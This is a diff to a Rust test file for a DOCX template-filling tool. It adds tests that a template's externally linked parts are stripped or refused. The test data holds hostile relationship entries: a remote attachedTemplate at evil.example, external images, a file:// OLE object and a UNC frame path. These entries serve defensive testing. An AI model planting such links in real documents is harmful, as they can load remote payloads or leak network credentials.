@@ -558,6 +558,59 @@ fn a_template_that_is_broken_or_hostile_is_refused() {
     assert_eq!(fault(&with_part(&template, "word/media/a.bin", &bomb)), TemplateFault::Unpacked);
 }
 
+const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+/// A list of relations with this entry added.
+fn with_relation(bytes: &[u8], list: &str, kind: &str, target: &str, more: &str) -> Vec<u8> {
+    let entry =
+        format!("<Relationship Id=\"rId900\" Type=\"{RELATION}/{kind}\" Target=\"{target}\"{more}/></Relationships>");
+    let empty =
+        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>";
+    let known = parts(bytes).get(list).map(|list| String::from_utf8(list.clone()).unwrap());
+    with_part(bytes, list, known.unwrap_or(empty.to_owned()).replace("</Relationships>", &entry).as_bytes())
+}
+
+#[test]
+fn what_a_template_loads_from_elsewhere_does_not_get_into_the_document() {
+    let outside = " TargetMode=\"External\"";
+    let (main, settings) = ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels");
+    let template = docx(EVERYTHING);
+    let attached =
+        "<w:settings xmlns:w=\"w\" xmlns:r=\"r\"><w:attachedTemplate r:id=\"rId900\"/><w:zoom/></w:settings>";
+    let attached = with_part(&template, "word/settings.xml", attached.as_bytes());
+    let attached = with_relation(&attached, settings, "attachedTemplate", "https://evil.example/x.dotm", outside);
+    let made = filled(OfficeFormat::Docx, &attached, &letter()).unwrap();
+    assert!(made.is_detached);
+    assert!(!part(&made.bytes, settings).contains("evil"));
+    assert_eq!(
+        part(&made.bytes, "word/settings.xml"),
+        "<w:settings xmlns:w=\"w\" xmlns:r=\"r\"><w:zoom/></w:settings>"
+    );
+    // A link is followed by its reader, or not.
+    let linked = with_relation(&template, main, "hyperlink", "https://a.example/", outside);
+    let made = filled(OfficeFormat::Docx, &linked, &letter()).unwrap();
+    assert!(!made.is_detached && part(&made.bytes, main).contains("https://a.example/"));
+    for (kind, target, more) in [
+        ("image", "https://evil.example/a.png", outside),
+        ("image", "https://evil.example/a.png", " TargetMode=\"external\""),
+        ("image", "https://evil.example/a.png", ""),
+        ("oleObject", "file:///C:/a.xlsx", outside),
+        ("frame", "\\\\evil\\a.docx", outside),
+        ("subDocument", "b.docx", outside),
+    ] {
+        let hostile = with_relation(&template, main, kind, target, more);
+        let fault = filled(OfficeFormat::Docx, &hostile, &letter()).unwrap_err();
+        assert_eq!(fault, TemplateFault::Linked, "{kind} {target} {more}");
+    }
+    let open =
+        "<Relationship Id=\"r\" Type=\"x/attachedTemplate\" Target=\"b.dotm\" TargetMode=\"External\"></Relationship>";
+    let open = format!("<Relationships>{open}</Relationships>");
+    let fault = |list: &[u8]| filled(OfficeFormat::Docx, &with_part(&template, settings, list), &letter()).unwrap_err();
+    assert_eq!(fault(open.as_bytes()), TemplateFault::Linked);
+    let wide: Vec<u8> = open.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert_eq!(fault(&[&[0xff, 0xfe], wide.as_slice()].concat()), TemplateFault::Broken);
+}
+
 #[test]
 fn a_template_cut_off_or_with_other_bytes_never_panics() {
     let templates = [
